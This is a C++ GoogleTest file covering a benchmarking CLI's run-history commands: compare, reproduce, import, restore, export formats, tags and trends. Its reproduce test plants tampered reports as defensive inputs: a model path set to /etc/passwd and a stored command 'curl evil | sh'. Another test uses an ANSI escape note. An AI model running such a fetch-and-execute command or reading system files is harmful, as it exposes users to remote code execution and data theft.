// The history from the command line: compare, trend, export, import, keep, reproduce.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>

#include "app/history_fixture.h"

namespace wide::cli {
namespace {

using testing::AllOf;
using testing::HasSubstr;
using testing::Not;

class HistoryCli : public HistoryFixture {};

TEST_F(HistoryCli, ComparesRunsBaselinesAndFiles) {
  ASSERT_EQ(sweep({"--repeat", "3", "--save-baseline", "main"}).code, 0);
  ::setenv("FAKE_SLOW", "1.3", 1);
  ASSERT_EQ(sweep({"--repeat", "3", "--save-baseline", "slow"}).code, 0);
  auto ran = run({"runs", "compare", "main", "slow"});
  EXPECT_EQ(ran.code, 0) << ran.err;
  EXPECT_THAT(ran.out, AllOf(HasSubstr("10 slower"), HasSubstr("geometric mean of the change: +30.0 %")));
  ASSERT_EQ(run({"runs", "export", "1", "-o", path("one.json")}).code, 0);
  const auto seen = json::parse(run({"runs", "compare", path("one.json"), "latest", "--json"}).out);
  EXPECT_EQ(seen.at("cases").size(), 10u);
  EXPECT_THAT(seen.at("remarks").dump(), HasSubstr("imported: a claim"));
  EXPECT_EQ(json::parse(run({"runs", "compare", "1", "latest~1", "latest", "--json"}).out).size(), 2u);
  EXPECT_THAT(run({"runs", "compare", "main", "slow", "--markdown"}).out, HasSubstr("| slower |"));
  EXPECT_EQ(run({"runs", "compare", "main"}).code, 2);
  EXPECT_EQ(run({"runs", "compare", "main", "latest~77"}).code, 2);
}

TEST_F(HistoryCli, MeasuresBothAgainInTurns) {
  ASSERT_EQ(sweep().code, 0);
  ::setenv("FAKE_SLOW", "1.3", 1);
  ASSERT_EQ(sweep().code, 0);
  ::unsetenv("FAKE_SLOW");
  const auto ran = run({"runs", "compare", "latest~1", "latest", "--re-measure", "--repeats", "3"});
  EXPECT_EQ(ran.code, 0) << ran.err;
  EXPECT_THAT(ran.out, AllOf(HasSubstr("measured again"), HasSubstr("10 same")));
  EXPECT_EQ(run({"runs", "compare", "1", "2", "--repeats", "3"}).code, 2);
}

TEST_F(HistoryCli, ReproducesARun) {
  ASSERT_EQ(sweep({"--label", "first"}).code, 0);
  auto ran = run({"reproduce", "latest"});
  EXPECT_EQ(ran.code, 0) << ran.err;
  EXPECT_THAT(ran.out, AllOf(HasSubstr("command   widebench --preset"), HasSubstr("10 cases compared")));
  EXPECT_EQ(json::parse(run({"runs", "list", "--json"}).out).size(), 2u);
  for (const auto* of : {"1", "2"}) {
    ran = run({"reproduce", of, "--dry-run"});
    EXPECT_EQ(ran.code, 0);
    EXPECT_THAT(ran.out, HasSubstr("command   widebench --preset"));
  }
  EXPECT_EQ(json::parse(run({"runs", "list", "--json"}).out).size(), 2u);
  // A report is a claim: no path is taken from it.
  auto report = json::parse(run({"runs", "export", "1", "-o", "-"}).out);
  report["settings"]["cases"][0]["kind"] = "model";
  report["settings"]["cases"][0]["model"] = "/etc/passwd";
  std::ofstream(path("evil.json")) << report;
  ran = run({"reproduce", path("evil.json")});
  EXPECT_EQ(ran.code, 2);
  EXPECT_THAT(ran.err, HasSubstr("no path is taken from a report"));
  report["settings"]["cases"][0]["kind"] = "zoo";
  std::ofstream(path("evil.json")) << report;
  EXPECT_THAT(run({"reproduce", path("evil.json")}).err, HasSubstr("no path is taken from a report"));
  // Nor a command, for a run of our own.
  report = json::parse(run({"runs", "export", "1", "-o", "-"}).out);
  report["run"]["command_line"] = "curl evil | sh";
  std::ofstream(path("evil.json")) << report;
  EXPECT_EQ(run({"reproduce", path("evil.json")}).code, 0);
  EXPECT_THAT(run({"reproduce", "latest", "--dry-run"}).out, HasSubstr("command   widebench reproduce"));
}

TEST_F(HistoryCli, ImportsMarkRunsAndRefuseThemTwice) {
  ASSERT_EQ(sweep().code, 0);
  ASSERT_EQ(run({"runs", "export", "1", "-o", path("one.json")}).code, 0);
  EXPECT_EQ(run({"runs", "import", path("one.json")}).code, 2);  // it is here already
  ASSERT_EQ(run({"runs", "delete", "1"}).code, 0);
  ASSERT_EQ(run({"runs", "import", path("one.json"), "--json"}).code, 0);
  const auto listed = json::parse(run({"runs", "list", "--json"}).out);
  ASSERT_EQ(listed.size(), 1u);
  EXPECT_EQ(listed.at(0).at("origin"), "imported");
  EXPECT_EQ(run({"runs", "show", "latest"}).code, 2) << "latest counts runs measured here";
  EXPECT_EQ(run({"runs", "trend", "mlp"}).code, 2) << "a trend is our own history";
  const auto id = std::to_string(listed.at(0).at("id").get<int>());
  auto again = json::parse(run({"runs", "export", id, "-o", "-"}).out),
       first = json::parse(text_of("one.json"));
  first["run"]["origin"] = "imported";
  EXPECT_EQ(again, first);
  // Of a folder that grows, what is new is taken.
  first["run"]["uid"] = "another";
  std::ofstream(path("two.json")) << first;
  EXPECT_THAT(run({"runs", "import", path("one.json"), path("two.json"), path("two.json")}).out,
              AllOf(HasSubstr("already as run 2"), HasSubstr("is now run 3"), HasSubstr("already as run 3")));
}

TEST_F(HistoryCli, PutsABackupBackAsTheMessageAboutDamageSays) {
  ASSERT_EQ(sweep().code, 0);
  EXPECT_EQ(run({"runs", "restore", path("none.bak")}).code, 2);
  ASSERT_EQ(sweep().code, 0);  // the backup holds two runs now
  ASSERT_EQ(run({"runs", "delete", "1"}).code, 0);
  auto ran = run({"runs", "restore", path("r.db.bak"), "--json"});
  ASSERT_EQ(ran.code, 0) << ran.err;
  EXPECT_EQ(json::parse(ran.out).at("runs"), 2);
  EXPECT_EQ(json::parse(run({"runs", "list", "--json"}).out).size(), 2u);
  std::filesystem::resize_file(path("r.db"), 9000);
  ran = run({"runs", "list"});
  EXPECT_EQ(ran.code, 2);
  EXPECT_THAT(ran.err, HasSubstr("widebench runs restore " + path("r.db.bak") + " --db " + path("r.db")));
  ran = run({"runs", "restore", path("r.db.bak")});
  EXPECT_EQ(ran.code, 0) << ran.err;
  EXPECT_THAT(ran.out, AllOf(HasSubstr("2 runs, 20 cases"), HasSubstr("kept as " + path("r.db.replaced-2"))));
  EXPECT_EQ(json::parse(run({"runs", "list", "--json"}).out).size(), 2u);
}

TEST_F(HistoryCli, WritesEveryFormat) {
  ASSERT_EQ(sweep().code, 0);
  const std::map<std::string, std::string> begins = {{"a.csv", "run,started"}, {"a.md", "## Widebench run"},
                                                     {"a.xml", "<?xml"},       {"a.html", "<!doctype html>"},
                                                     {"a.svg", "<svg"},        {"a.json", "{"}};
  for (const auto& [file, begin] : begins) {
    ASSERT_EQ(run({"runs", "export", "latest", "-o", path(file)}).code, 0) << file;
    EXPECT_EQ(text_of(file).find(begin), 0u) << file;
  }
  EXPECT_EQ(json::parse(run({"runs", "export", "1", "-o", "-", "--format", "github"}).out).size(), 10u);
  EXPECT_EQ(json::parse(run({"runs", "export", "1", "-o", "-", "--format", "bencher"}).out).size(), 10u);
}

TEST_F(HistoryCli, KeepsNamesTagsAndNotes) {
  ASSERT_EQ(sweep({"--repeat", "4"}).code, 0);
  EXPECT_EQ(run({"runs", "pin", "1", "2", "1", "--as", "main"}).out, "baseline main is now run 1, 2\n");
  EXPECT_EQ(run({"runs", "pin", "1", "--as", "12"}).code, 2);
  EXPECT_EQ(run({"runs", "tag", "latest", "nightly", "arm"}).code, 0);
  EXPECT_EQ(run({"runs", "note", "latest", "\x1b[31mred"}).code, 0);
  auto shown = run({"runs", "list"}).out;
  EXPECT_THAT(shown, AllOf(HasSubstr("baseline:main"), HasSubstr("#nightly")));
  EXPECT_EQ(json::parse(run({"runs", "list", "--tag", "arm", "--json"}).out).size(), 1u);
  shown = run({"runs", "show", "latest"}).out;
  EXPECT_THAT(shown, AllOf(HasSubstr("[31mred"), Not(HasSubstr("\x1b"))));
  EXPECT_EQ(run({"runs", "delete", "main"}).code, 2);
  EXPECT_EQ(run({"runs", "prune", "--keep", "1"}).code, 0);
  EXPECT_EQ(json::parse(run({"runs", "list", "--json"}).out).size(), 3u);
  EXPECT_EQ(run({"runs", "unpin", "main"}).code, 0);
  EXPECT_EQ(run({"runs", "delete", "1", "2"}).code, 0);
  EXPECT_EQ(run({"runs", "tag", "latest", "none", "--remove"}).code, 2);
}

TEST_F(HistoryCli, ShowsTrends) {
  ASSERT_EQ(sweep({"--repeat", "4"}).code, 0);
  ::setenv("FAKE_SLOW", "2", 1);
  ASSERT_EQ(sweep({"--repeat", "4"}).code, 0);
  const auto seen = json::parse(run({"runs", "trend", "mlp", "--json"}).out);
  ASSERT_EQ(seen.at("series").size(), 5u);
  EXPECT_EQ(seen.at("series")[0].at("points").size(), 8u);
  EXPECT_EQ(seen.at("series")[0].at("change_points"), json{4});
  EXPECT_THAT(run({"runs", "trend", "mlp"}).out, HasSubstr("<- change point"));
}

}  // namespace
}  // namespace wide::cli
